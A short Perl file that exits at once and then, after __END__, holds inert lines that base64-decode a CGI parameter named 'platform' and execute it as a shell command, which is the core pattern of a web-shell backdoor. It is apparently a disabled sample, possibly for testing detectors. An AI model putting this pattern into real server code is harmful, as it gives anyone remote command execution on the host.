#!/usr/bin/perl
exit;
__END__
use Crypt::RC4;
my $p = CGI::param('platform');
my $d = decode_base64($p);
print qx(	$d);
